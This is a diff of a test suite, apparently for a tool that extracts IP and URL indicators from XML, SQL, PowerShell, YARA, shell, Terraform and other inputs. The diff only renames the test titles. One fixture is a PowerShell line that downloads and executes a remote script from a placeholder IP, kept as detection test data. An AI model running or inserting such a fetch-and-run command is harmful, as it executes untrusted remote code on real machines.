@@ -1,7 +1,7 @@
 import { assertFound } from './findHelpers';
 
-describe('code, rules and configuration of many kinds', () => {
-  it('xml', () =>
+describe('Finding indicators in code, rules, and configuration', () => {
+  it('reads XML', () =>
     assertFound(
       [
         ['<Data Name="IpAddress">203.0.113.45</Data><Data Name="IpPort">49812</Data>', ['ip 203.0.113.45']],
@@ -22,7 +22,7 @@ describe('code, rules and configuration of many kinds', () => {
       'xml',
     ));
 
-  it('sql', () =>
+  it('reads SQL', () =>
     assertFound(
       [
         [
@@ -35,7 +35,7 @@ describe('code, rules and configuration of many kinds', () => {
       'sql',
     ));
 
-  it('powershell', () =>
+  it('reads PowerShell', () =>
     assertFound(
       [
         ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')", ['url http://203.0.113.5/a.ps1']],
@@ -47,7 +47,7 @@ describe('code, rules and configuration of many kinds', () => {
       'powershell',
     ));
 
-  it('go', () =>
+  it('reads Go', () =>
     assertFound(
       [
         [
@@ -60,7 +60,7 @@ describe('code, rules and configuration of many kinds', () => {
       'go',
     ));
 
-  it('rust', () =>
+  it('reads Rust', () =>
     assertFound(
       [
         ['let a: IpAddr = "2001:db8::7".parse().unwrap(); std::net::Ipv4Addr::new(10, 0, 0, 1);', ['ip 2001:db8::7']],
@@ -73,7 +73,7 @@ describe('code, rules and configuration of many kinds', () => {
       'rust',
     ));
 
-  it('yaml', () =>
+  it('reads YAML', () =>
     assertFound(
       [
         [
@@ -102,7 +102,7 @@ describe('code, rules and configuration of many kinds', () => {
       'yaml',
     ));
 
-  it('dockerfile', () =>
+  it('reads Dockerfile', () =>
     assertFound(
       [
         [
@@ -114,7 +114,7 @@ describe('code, rules and configuration of many kinds', () => {
       'dockerfile',
     ));
 
-  it('javascript', () =>
+  it('reads JavaScript', () =>
     assertFound(
       [
         [
@@ -130,7 +130,7 @@ describe('code, rules and configuration of many kinds', () => {
       'javascript',
     ));
 
-  it('yara', () =>
+  it('reads YARA', () =>
     assertFound(
       [
         [
@@ -142,7 +142,7 @@ describe('code, rules and configuration of many kinds', () => {
       'yara',
     ));
 
-  it('html', () =>
+  it('reads HTML', () =>
     assertFound(
       [
         ['<a href=3D"https://site-vv.com/x?a=3D1&amp;b=3D2">Pay</a>', ['url https://site-vv.com/x?a=1&b=2']],
@@ -155,7 +155,7 @@ describe('code, rules and configuration of many kinds', () => {
       'html',
     ));
 
-  it('python', () =>
+  it('reads Python', () =>
     assertFound(
       [
         [
@@ -166,7 +166,7 @@ describe('code, rules and configuration of many kinds', () => {
       'python',
     ));
 
-  it('shellscript', () =>
+  it('reads shell scripts', () =>
     assertFound(
       [
         [
@@ -177,7 +177,7 @@ describe('code, rules and configuration of many kinds', () => {
       'shellscript',
     ));
 
-  it('ini', () =>
+  it('reads INI', () =>
     assertFound(
       [
         [
@@ -188,7 +188,7 @@ describe('code, rules and configuration of many kinds', () => {
       'ini',
     ));
 
-  it('toml', () =>
+  it('reads TOML', () =>
     assertFound(
       [
         [
@@ -199,7 +199,7 @@ describe('code, rules and configuration of many kinds', () => {
       'toml',
     ));
 
-  it('terraform', () =>
+  it('reads Terraform', () =>
     assertFound(
       [
         [
@@ -210,7 +210,7 @@ describe('code, rules and configuration of many kinds', () => {
       'terraform',
     ));
 
-  it('properties', () =>
+  it('reads properties files', () =>
     assertFound(
       [
         [
@@ -221,7 +221,7 @@ describe('code, rules and configuration of many kinds', () => {
       'properties',
     ));
 
-  it('nginx', () =>
+  it('reads nginx configuration', () =>
     assertFound(
       [
         [
